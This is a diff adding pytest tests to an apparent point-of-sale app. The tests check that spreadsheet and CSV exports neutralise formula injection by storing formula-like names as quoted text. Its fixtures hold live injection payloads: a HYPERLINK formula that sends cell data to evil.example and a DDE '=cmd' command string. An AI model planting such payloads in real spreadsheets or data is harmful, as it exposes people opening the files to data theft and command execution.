@@ -157,3 +157,90 @@ def test_sheet_names_are_valid_and_unique():
     names = [exports._sheet_name(t, taken) for t in ("Por día", "Por día", "A/B: ¿?", "x" * 40)]
     assert names[0] == "Por día" and names[1] != names[0]
     assert all(len(n) <= 31 and not set("[]:*?/\\") & set(n) for n in names)
+
+
+# -- cells a spreadsheet would run as formulas ------------------------------------------------------
+
+DANGEROUS = ('=HYPERLINK("http://evil.example/?"&A1,"Ver")', "+51 984 000 111", "-2 bolsos", "@SUM(A1:A9)")
+
+
+@pytest.fixture
+def dangerous(shop):  # type: ignore[no-untyped-def]
+    """Products, a category and a maker whose names start like formulas, sold and partly refunded."""
+    from mamakilla_pos.services import catalogue
+
+    store = shop.store
+    codes = []
+    for n, name in enumerate(DANGEROUS):
+        new = catalogue.NewItem(name, "=cmd|' /C calc'!A0", D("10.00"), (("@Rosa Quispe", 1),), f"EVIL{n}")
+        codes.append(catalogue.add_item(store, new).code)
+    sale = record_sale(
+        store, SaleRequest(tuple(LineRequest(c) for c in codes), (Tender("card", D("40.00")),), created_at=DAY)
+    )
+    line = history.get_sale(store, sale.number).lines[0]
+    refund(store, RefundRequest(sale.number, (RefundLine(line.id, 1),), method="card", created_at=DAY))
+    return store
+
+
+def test_xlsx_stores_formula_like_text_as_text_and_negative_numbers_as_numbers(dangerous):
+    report = analytics.period_report(dangerous, PERIOD)
+    data = exports.period_xlsx(report, '=HYPERLINK("http://evil.example")', active="product")
+    book = load_workbook(io.BytesIO(data))
+    assert book["Informe"]["A2"].value == '=HYPERLINK("http://evil.example")'
+    assert book["Informe"]["A2"].data_type == "s"
+    products = sheet_rows(book["Por producto"])
+    for name in DANGEROUS:
+        cell = products[name][0]
+        assert cell.value == name and cell.data_type == "s", name
+        assert cell.quotePrefix, name
+    assert products[DANGEROUS[0]][1].value.startswith("=cmd") and products[DANGEROUS[0]][1].data_type == "s"
+    # No cell of any sheet is a formula, in the file itself.
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        for name in archive.namelist():
+            assert b"<f>" not in archive.read(name), name
+    table = Table(
+        "t",
+        "T",
+        (Column("what", "Qué"), Column("units", "Unidades", "int"), Column("amount", "Importe", "money")),
+        (("-ajuste", -3, D("-12.50")),),
+    )
+    cells = sheet_rows(load_workbook(io.BytesIO(exports.xlsx_bytes([table])))["T"])["-ajuste"]
+    assert cells[0].data_type == "s"
+    assert (cells[1].value, cells[1].data_type) == (-3, "n")
+    assert (D(str(cells[2].value)), cells[2].data_type) == (D("-12.50"), "n")
+
+
+def test_csv_prefixes_formula_like_text_with_a_quote_but_not_negative_numbers(dangerous):
+    table = Table(
+        "t",
+        "T",
+        (Column("what", "Qué"), Column("units", "Unidades", "int"), Column("amount", "Importe", "money")),
+        tuple((text, -3, D("-12.50")) for text in (*DANGEROUS, "\tTAB", "\rCR", "normal")),
+    )
+    rows = list(csv.reader(io.StringIO(exports.csv_bytes(table).decode("utf-8-sig"), newline="")))
+    assert [r[0] for r in rows[1:]] == [*(f"'{t}" for t in DANGEROUS), "'\tTAB", "'\rCR", "normal"]
+    assert {(r[1], r[2]) for r in rows[1:]} == {("-3", "-12.50")}
+    report = analytics.period_report(dangerous, PERIOD)
+    products = {t.key: t for t in exports.period_tables(report)}["product"]
+    names = [r[0] for r in csv.reader(io.StringIO(exports.csv_bytes(products).decode("utf-8-sig")))]
+    assert {f"'{t}" for t in DANGEROUS} <= set(names)
+
+
+def test_zip_export_prefixes_formula_like_text_but_keeps_negative_numbers(dangerous, tmp_path):
+    archive = zipfile.ZipFile(exports.export_all(dangerous, tmp_path / "todo.zip").path)
+
+    def rows(table: str) -> list[dict[str, str]]:
+        return list(csv.DictReader(io.StringIO(archive.read(f"{table}.csv").decode("utf-8-sig"))))
+
+    names = {r["name"] for r in rows("products")}
+    assert {f"'{t}" for t in DANGEROUS} <= names
+    assert not any(n.startswith(("=", "+", "-", "@")) for n in names)
+    assert "'@Rosa Quispe" in {r["name"] for r in rows("makers")}
+    assert "'=cmd|' /C calc'!A0" in {r["name"] for r in rows("categories")}
+    assert "-1" in {r["quantity"] for r in rows("stock_movements")}
+    reversals = [r["amount"] for r in rows("share_entries") if r["kind"] == "reversal"]
+    assert reversals == ["-4.50"]
+    for table in archive.namelist():
+        if table.endswith(".csv"):
+            for row in csv.reader(io.StringIO(archive.read(table).decode("utf-8-sig"))):
+                assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row), (table, row)
